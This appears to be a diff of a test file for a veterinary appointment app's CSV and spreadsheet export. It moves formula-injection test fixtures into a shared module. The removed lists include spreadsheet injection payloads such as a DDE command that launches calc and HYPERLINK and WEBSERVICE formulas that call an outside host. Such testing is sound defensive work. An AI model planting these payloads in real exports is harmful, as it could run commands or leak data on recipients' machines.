@@ -12,6 +12,7 @@ import { JSDOM } from 'jsdom';
 import { csvFileName, exportColumns, joinedColumns, requestsCsv } from '#src/domain/requestsCsv.ts';
 import { requestsXlsx, xlsxFileName } from '#src/domain/requestsXlsx.ts';
 import type { AppointmentRequest } from '#src/domain/types.ts';
+import { harmless, hostile, hostileInside } from '#tests/support/csvTexts.ts';
 import { findProgram, install, skippedExitCode } from './systemPackages.ts';
 
 const plain: AppointmentRequest = {
@@ -27,63 +28,6 @@ const plain: AppointmentRequest = {
   time: '10:30',
   comments: 'Limping, "left" front paw; since Saturday.',
 };
-
-/** Texts that a spreadsheet could run as a formula. The export must put an apostrophe in front of each. */
-const hostile = [
-  '=1+1',
-  '=HYPERLINK("https://example.com/?x="&A2,"Click")',
-  '=WEBSERVICE("https://example.com/")',
-  "=cmd|' /C calc'!A0",
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '  =1+1',
-  '\u00A0=1+1',
-  '=1+1\nand a second line',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  '\u200B=1+1',
-  '-',
-  '+91 98765 43210',
-];
-
-/** Texts that could run where the list separator is `;` or a tab, and how they must arrive. */
-const hostileInside = new Map([
-  ['\t=1+1', "'\t'=1+1"],
-  ['\r=1+1', "'\r'=1+1"],
-  ['\n=1+1', "'\n'=1+1"],
-  ['a;=1+1', "a;'=1+1"],
-  ['a; =1+1', "a;' =1+1"],
-  ['a;"=1+1;b', 'a;\'"=1+1;b'],
-  ['a\t=1+1', "a\t'=1+1"],
-  ['a\n=1+1\nb', "a\n'=1+1\nb"],
-  ['a;=HYPERLINK(A1;A2);b', "a;'=HYPERLINK(A1;A2);b"],
-]);
-
-/** Texts that must arrive unchanged. */
-const harmless = [
-  'மீனாட்சி தலை வலி',
-  'बिल्ली को बुख़ार है',
-  'ಬೆಕ್ಕು ಊಟ ಮಾಡುತ್ತಿಲ್ಲ',
-  'కుక్కకు జ్వరం',
-  'പൂച്ച',
-  'বিড়াল',
-  'ਕੁੱਤਾ',
-  'બિલાડી',
-  'قطہ',
-  '👩🏽‍⚕️🐈',
-  'a "quoted" word, a comma; a semicolon',
-  'two\nlines',
-  'two\r\nlines',
-  "'already quoted",
-  'ends with a space ',
-  '1+1',
-  'a\tb',
-  '<b>&amp;</b>',
-  '_x0041_x0042_',
-];
 
 /** Texts that a spreadsheet converts to numbers, dates and times, unless it imports quoted fields as text. */
 const likeNumbers = ['0801234567', '1E5', 'TRUE', '3/4', '00:05', '2026-03-07', '１２'];
